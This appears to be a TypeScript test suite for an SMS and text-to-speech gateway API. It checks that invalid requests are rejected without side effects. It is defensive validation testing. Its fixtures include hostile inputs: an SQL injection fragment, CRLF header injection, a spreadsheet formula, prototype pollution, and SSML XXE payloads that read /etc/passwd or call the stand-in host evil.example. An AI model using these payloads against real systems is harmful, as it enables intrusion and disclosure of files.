import { beforeAll, describe, expect, test } from "vitest";
import { testModule } from "@/lib/api-suites/test-module";
import { makeTestAccount, makeTestKey, type TestAccount } from "@/lib/api-suites/test-api";
import { readAccountState, postJson, VALID } from "@/lib/gateway/messaging/sms/test-sms";

/** Inputs that must be rejected without side effects. */
const { api, account } = testModule({ isShared: true, hasRates: true });
let swiss: TestAccount;

beforeAll(async () => {
  swiss = await makeTestAccount({ iso2: "CH", currency: "CHF" });
});

interface Rejection {
  name: string;
  /** Fields that replace those of a good body, or the raw body. */
  body: object | string;
  status: 400 | 413 | 415 | 422;
  code: string;
  path?: string;
  /** Pattern that the error message must match. */
  says?: RegExp;
}

const invalid = (name: string, path: string, body: object, says?: RegExp): Rejection => ({
  name,
  body,
  status: 400,
  code: "invalid_input",
  path,
  ...(says && { says }),
});
const raw = (name: string, body: string, status: 400 | 413 = 400): Rejection => ({
  name,
  body,
  status,
  code: status === 413 ? "body_too_large" : "invalid_json",
});
const refused = (name: string, code: string, path: string, body: object): Rejection => ({
  name,
  body,
  status: 422,
  code,
  path,
});

async function expectRefusal({ body, status, code, path, says }: Rejection, account: TestAccount) {
  const sent = typeof body === "string" ? body : { ...VALID, ...body };
  const before = await readAccountState(account.id);
  for (const target of ["/sms", "/sms/dryrun"]) {
    const keyed = { ...account.headers, "idempotency-key": "refused" };
    const response = await postJson(api, target, keyed, sent);
    const text = await response.text();
    expect([target, response.status, text]).toEqual([
      target,
      status,
      expect.stringContaining(code),
    ]);
    const error = JSON.parse(text);
    expect(error.code).toBe(code);
    if (path !== undefined) expect(error.violations[0]?.propertyPath).toBe(path);
    if (says !== undefined) expect(error.detail).toMatch(says);
    expect(text).not.toMatch(/at .*\.ts|SELECT |node_modules|\/work\//);
  }
  expect(await readAccountState(account.id)).toEqual(before);
}

const named = (rows: Rejection[]) => rows.map((row) => [row.name, row] as const);
const soon = () => Math.floor(Date.now() / 1000);

describe("text", () => {
  test.each(
    named([
      invalid("missing", "text", { text: undefined }),
      invalid("null", "text", { text: null }),
      invalid("a number", "text", { text: 1 }),
      invalid("an array", "text", { text: ["a"] }),
      invalid("empty", "text", { text: "" }),
      invalid("a call of only spaces", "text", { text: "   ", service_code: "text2speech" }),
      refused("what GSM has no form of", "unprocessable", "text", {
        text: "Да 👍 日本 👍",
        is_unicode: false,
      }),
      invalid("1531 characters", "text", { text: "a".repeat(1531) }, /1530/),
      invalid(
        "1530 with an extension character",
        "text",
        { text: `€${"a".repeat(1529)}` },
        /1531.*1530/,
      ),
      invalid("671 Unicode characters", "text", { text: "ж".repeat(671) }, /671.*670/),
      invalid("671 with one emoji", "text", { text: `${"a".repeat(669)}😀` }, /671.*670/),
      invalid(
        "671 plain letters as Unicode",
        "text",
        { text: "a".repeat(671), is_unicode: true },
        /670/,
      ),
      invalid(
        "transliterated past the limit",
        "text",
        { text: "…".repeat(511), is_unicode: false },
        /1533.*1530/,
      ),
      invalid("just under a megabyte", "text", { text: "a".repeat(1_048_000) }, /1530/),
      raw("over a megabyte", JSON.stringify({ ...VALID, text: "a".repeat(1_048_577) }), 413),
      refused("a link of an unknown campaign", "campaign_unknown", "text", {
        text: "See [slink abc]",
      }),
      refused("two of them", "campaign_unknown", "text", { text: "[slink abc] [slink def]" }),
      invalid("one inside another", "text", { text: "[slink [slink abc]]" }, /slink/),
      invalid("one without a code", "text", { text: "[slink ]" }, /slink/),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));
});

describe("phone", () => {
  test.each(
    named([
      invalid("missing", "phone", { phone: undefined }),
      invalid("null", "phone", { phone: null }),
      invalid("a number", "phone", { phone: 4917199999999 }),
      invalid("empty", "phone", { phone: "" }),
      invalid("six characters", "phone", { phone: "+12345" }),
      invalid("seventeen characters", "phone", { phone: "+4917199999999999" }),
      invalid("sixteen digits", "phone", { phone: "4917199999999999" }),
      invalid("letters", "phone", { phone: "+49171CALLNOW" }),
      invalid("only a plus", "phone", { phone: "++++" }),
      invalid("two pluses", "phone", { phone: "++4917199999999" }),
      invalid("a plus inside", "phone", { phone: "49171+99999999" }),
      invalid("00 and 0", "phone", { phone: "00017199999999" }),
      invalid("full-width digits", "phone", { phone: "＋４９１７１９９９９９９９９" }),
      invalid("Arabic digits", "phone", { phone: "+٤٩١٧١٩٩٩٩٩٩٩٩" }),
      invalid("a line end", "phone", { phone: "+4917199999999\n" }),
      invalid("an extension", "phone", { phone: "+4930901820;ext=5" }),
      invalid("an SQL fragment", "phone", { phone: "' OR 1=1 --" }),
      invalid("31 characters", "phone", { phone: `+49 171 ${"9".repeat(23)}` }),
      invalid("an emergency number", "phone", { phone: "112" }),
      refused("an emergency number behind a zero", "phone_not_possible", "phone", {
        phone: "0112",
      }),
      refused("a short code", "phone_not_allowed", "phone", { phone: "9110" }),
      refused("premium rate", "phone_not_allowed", "phone", { phone: "+499001234567" }),
      refused("satellite", "phone_not_allowed", "phone", { phone: "+881612345678" }),
      refused("no such country", "phone_not_possible", "phone", { phone: "+999123456789" }),
      refused("too short for its country", "phone_not_possible", "phone", { phone: "+4917199" }),
      refused("a landline gets no text", "phone_not_allowed", "phone", { phone: "+493023125000" }),
      refused("a country without rates", "no_route", "phone", { phone: "+33639981234" }),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));

  test("parses a national spelling by the account's country only", async () => {
    const row = refused("", "phone_not_possible", "phone", { phone: "0171 99999999" });
    await expectRefusal(row, swiss);
  });
});

describe("sender_id", () => {
  test.each(
    named([
      invalid("missing", "sender_id", { sender_id: undefined }),
      invalid("null", "sender_id", { sender_id: null }),
      invalid("a number", "sender_id", { sender_id: 12345 }),
      invalid("empty", "sender_id", { sender_id: "" }),
      invalid("only spaces", "sender_id", { sender_id: "   " }),
      invalid("twelve letters", "sender_id", { sender_id: "POSTHORNPOST" }),
      invalid("sixteen digits", "sender_id", { sender_id: "1234567890123456" }),
      invalid("seventeen characters", "sender_id", { sender_id: "+1234567890123456" }),
      invalid("Cyrillic look-alikes", "sender_id", { sender_id: "РОSТHORN" }),
      invalid("an umlaut", "sender_id", { sender_id: "Grüße" }),
      invalid("an emoji", "sender_id", { sender_id: "Hi 😀" }),
      invalid("CR LF", "sender_id", { sender_id: "A\r\nBcc: x" }),
      invalid("a line end within", "sender_id", { sender_id: "POST\nHORN" }),
      invalid("a tag", "sender_id", { sender_id: "<b>x</b>" }),
      invalid("a formula", "sender_id", { sender_id: "=1+1" }),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));
});

describe("delivery_at", () => {
  test.each(
    named([
      invalid("negative", "delivery_at", { delivery_at: -1 }),
      invalid("a fraction", "delivery_at", { delivery_at: 1.5 }),
      invalid("milliseconds", "delivery_at", { delivery_at: Date.now() + 3_600_000 }, /seconds/),
      invalid("year 9999", "delivery_at", { delivery_at: 253_402_300_799 }, /1 year/),
      invalid("367 days ahead", "delivery_at", { delivery_at: soon() + 367 * 86_400 }, /1 year/),
      invalid("text", "delivery_at", { delivery_at: "2026-12-24T18:00:00Z" }),
      invalid("digits as text", "delivery_at", { delivery_at: "0" }),
      invalid("a boolean", "delivery_at", { delivery_at: true }),
      invalid("beyond 2^53", "delivery_at", { delivery_at: 9_007_199_254_740_992 }),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));

  test("rejects infinity in digits", () =>
    expectRefusal(
      {
        ...raw("", `{"text":"a","sender_id":"a","phone":"+4917199999999","delivery_at":1e400}`),
        code: "invalid_input",
        path: "delivery_at",
        says: /too large to read/,
      },
      account,
    ));
});

describe("other fields", () => {
  test.each(
    named([
      invalid("source as text", "source", { source: "1" }),
      invalid("source negative", "source", { source: -1 }),
      invalid("source with a fraction", "source", { source: 1.5 }),
      invalid("source beyond 2^53", "source", { source: 9_007_199_254_740_992 }),
      invalid("is_unicode as text", "is_unicode", { is_unicode: "true" }),
      invalid("is_unicode as number", "is_unicode", { is_unicode: 1 }),
      invalid("is_text_deleted as text", "is_text_deleted", { is_text_deleted: "false" }),
      invalid("callback_data of 37 characters", "callback_data", { callback_data: "x".repeat(37) }),
      invalid("callback_data as number", "callback_data", { callback_data: 5 }),
      invalid("callback_data as object", "callback_data", { callback_data: { a: 1 } }),
      invalid("service_code unknown", "service_code", { service_code: "fax" }),
      invalid("service_code empty", "service_code", { service_code: "" }),
      invalid("service_code as array", "service_code", { service_code: ["direct"] }),
      invalid("attempts of a text message", "attempts_count_max", { attempts_count_max: 1 }),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));

  test("reports every invalid field at once", async () => {
    const body = { text: 5, sender_id: null, phone: {}, source: "x" };
    const response = await postJson(api, "/sms", account.headers, body);
    const { violations } = await response.json();
    const paths = violations.map(({ propertyPath }: { propertyPath: string }) => propertyPath);
    expect(paths.sort()).toEqual(["phone", "sender_id", "source", "text"]);
  });

  test("reports every violated rule at once, the first as the error's own", async () => {
    const body = {
      phone: "+493023125000",
      sender_id: "Grüße",
      text: "a".repeat(1530),
      is_unicode: true,
      delivery_at: 253_402_300_799,
      attempts_count_max: 1,
    };
    const before = await readAccountState(account.id);
    const response = await postJson(api, "/sms", account.headers, body);
    const { code, reason, violations } = await response.json();
    expect([response.status, code, reason]).toEqual([422, "phone_not_allowed", "landline"]);
    expect(
      violations.map(({ propertyPath, code }: Record<string, string>) => [propertyPath, code]),
    ).toEqual([
      ["phone", "phone_not_allowed"],
      ["delivery_at", "invalid_input"],
      ["attempts_count_max", "invalid_input"],
      ["text", "invalid_input"],
      ["sender_id", "invalid_input"],
    ]);
    expect(await readAccountState(account.id)).toEqual(before);
  });
});

const call = { service_code: "text2speech", text: "Good morning, this is a call" };
const ssml = (text: string) => ({ service_code: "text2speech_ssml", text });

describe("calls", () => {
  test.each(
    named([
      invalid("no attempt", "attempts_count_max", { ...call, attempts_count_max: 0 }),
      invalid("four attempts", "attempts_count_max", { ...call, attempts_count_max: 4 }),
      invalid("attempts as text", "attempts_count_max", { ...call, attempts_count_max: "1" }),
      invalid("half an attempt", "attempts_count_max", { ...call, attempts_count_max: 1.5 }),
      invalid("a language that nobody speaks", "voice_lang", { ...call, voice_lang: "xx-XX" }),
      invalid("a language too long", "voice_lang", { ...call, voice_lang: "en-GB-x" }),
      invalid("a language as number", "voice_lang", { ...call, voice_lang: 1 }),
      invalid("1531 characters", "text", { ...call, text: "a".repeat(1531) }),
      invalid("an empty speak", "text", ssml("<speak></speak>")),
      invalid("only a pause", "text", ssml('<speak><break time="1s"/></speak>')),
      invalid("SSML without speak", "text", ssml("Hello"), /<speak>/),
      invalid("a speak that is not closed", "text", ssml("<speak>Hello"), /isn't closed/),
      invalid(
        "tags that cross",
        "text",
        ssml('<speak><say-as interpret-as="characters">A</speak></say-as>'),
      ),
      invalid("speak twice", "text", ssml("<speak>a</speak><speak>b</speak>")),
      invalid("text after speak", "text", ssml("<speak>a</speak>b")),
      invalid(
        "an audio of another place",
        "text",
        ssml('<speak><audio src="http://evil.example/a.mp3"/></speak>'),
        /audio/,
      ),
      invalid("a script", "text", ssml("<speak><script>x</script></speak>"), /script/),
      invalid(
        "a document type",
        "text",
        ssml('<!DOCTYPE speak [<!ENTITY x SYSTEM "file:///etc/passwd">]><speak>&x;</speak>'),
      ),
      invalid("an entity of one's own", "text", ssml("<speak>&x;</speak>")),
      invalid(
        "a parameter entity",
        "text",
        ssml('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><speak>a</speak>'),
      ),
      invalid("a comment", "text", ssml("<speak>a<!-- b --></speak>")),
      invalid("CDATA", "text", ssml("<speak><![CDATA[a]]></speak>")),
      invalid("a processing instruction", "text", ssml('<?xml version="1.0"?><speak>a</speak>')),
      invalid(
        "a namespace",
        "text",
        ssml('<speak xmlns:xi="http://www.w3.org/2001/XInclude">a</speak>'),
      ),
      invalid("a pause of a minute", "text", ssml('<speak>a<break time="60s"/></speak>')),
      invalid(
        "wrapped SSML as plain text2speech",
        "text",
        { ...call, text: "<speak>a<audio/></speak>" },
        /audio/,
      ),
      invalid("a short link", "text", { ...call, text: "[slink x]" }),
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));
});

describe("request bodies", () => {
  const deep = `${'{"a":'.repeat(33)}1${"}".repeat(33)}`;
  test.each(
    named([
      raw("cut off", '{"text":"Hello"'),
      raw("nothing", ""),
      raw("only spaces", "  "),
      raw("a comment", '{"text":"a"/* b */}'),
      raw("single quotes", "{'text':'a'}"),
      raw("NaN", '{"source":NaN}'),
      raw("a name twice", '{"text":"a","text":"b","sender_id":"a","phone":"+4917199999999"}'),
      raw("a name twice, once escaped", '{"text":"a","\\u0074ext":"b"}'),
      raw("a prototype", '{"__proto__":{"price":0},"text":"a"}'),
      raw("33 levels", deep),
      raw("NUL in the text", '{"text":"a\\u0000b"}'),
      raw("half a surrogate pair", '{"text":"\\ud83d"}'),
      raw("a byte order mark", `\ufeff${JSON.stringify(VALID)}`),
      { ...invalid("an array", "", {}), body: JSON.stringify([VALID]) },
      { ...invalid("null", "", {}), body: "null" },
      { ...invalid("a string", "", {}), body: '"Hello"' },
      { ...invalid("a number", "", {}), body: "1" },
    ]),
  )("rejects %s", (_, row) => expectRefusal(row, account));

  test.each([
    ["invalid UTF-8", [0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]],
    ["an overlong slash", [0x22, 0xc0, 0xaf, 0x22]],
    ["a surrogate in UTF-8", [0x22, 0xed, 0xa0, 0x80, 0x22]],
    ["UTF-16", [0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]],
  ])("rejects the body %s", async (_, bytes) => {
    const response = await api.request("/sms", {
      method: "POST",
      headers: { ...account.headers, "content-type": "application/json" },
      body: Uint8Array.from(bytes),
    });
    expect([response.status, (await response.json()).code]).toEqual([400, "invalid_json"]);
  });

  test.each([
    "text/plain",
    "text/json",
    "application/xml",
    "multipart/form-data; boundary=x",
    "json",
  ])("rejects Content-Type %s", async (type) => {
    const before = await readAccountState(account.id);
    const response = await postJson(
      api,
      "/sms",
      { ...account.headers, "content-type": type },
      VALID,
    );
    expect([response.status, (await response.json()).code]).toEqual([
      415,
      "unsupported_media_type",
    ]);
    expect(await readAccountState(account.id)).toEqual(before);
  });
});

describe("authorization and balance", () => {
  test("rejects keys of other roles", async () => {
    const before = await readAccountState(account.id);
    for (const input of [
      { roles: ["read"] },
      { roles: ["payments"] },
      { roles: ["read"], is_test: true },
    ] as const) {
      const { headers } = await makeTestKey(account.ctx, input as object);
      const response = await postJson(api, "/sms", headers, VALID);
      expect([response.status, (await response.json()).code]).toEqual([403, "forbidden"]);
    }
    expect(await readAccountState(account.id)).toEqual(before);
  });

  test("returns 402 without balance, in either format, and leaves no data", async () => {
    const poor = await makeTestAccount({ balance: "0.07" });
    const before = await readAccountState(poor.id);
    for (const accept of ["application/json", "application/ld+json"]) {
      const headers = { ...poor.headers, accept, "idempotency-key": accept };
      const response = await postJson(api, "/sms", headers, VALID);
      const error = await response.json();
      expect([response.status, error.code]).toEqual([402, "insufficient_funds"]);
    }
    expect(await readAccountState(poor.id)).toEqual(before);
  });
});
